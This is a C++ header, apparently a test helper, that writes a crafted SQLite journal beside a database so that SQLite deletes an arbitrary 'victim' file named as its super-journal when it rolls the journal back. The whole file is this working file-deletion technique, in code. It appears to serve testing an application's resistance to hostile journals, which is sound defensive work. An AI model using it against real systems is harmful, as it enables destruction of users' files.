#pragma once

#include <cstdint>
#include <filesystem>
#include <fstream>
#include <string>

/// Puts a journal beside a project that names `victim` as its super-journal, which SQLite deletes
/// once it has taken the journal back.
inline void writeHostileJournal(const std::filesystem::path& project,
                                const std::filesystem::path& victim)
{
    constexpr std::size_t kPage = 4096;
    constexpr std::size_t kSector = 512;
    const std::string mark("\xd9\xd5\x05\xf9\x20\xa1\x63\xd7", 8);
    const auto number = [](std::size_t value) {
        std::string bytes;
        for (const int shift : {24, 16, 8, 0})
            bytes += static_cast<char>(value >> shift & 0xFFU);
        return bytes;
    };
    const std::string name = victim.string();
    std::uint32_t sum = 0;
    for (const char c : name)
        sum += static_cast<std::uint32_t>(static_cast<signed char>(c));
    std::string journal = mark + number(0) + number(12345) +
                          number(std::filesystem::file_size(project) / kPage) + number(kSector) +
                          number(kPage);
    journal.resize(kSector, '\0');
    journal += number(0x40000000 / kPage + 1) + name + number(name.size()) + number(sum) + mark;
    std::ofstream(project.string() + "-journal", std::ios::binary) << journal;
}
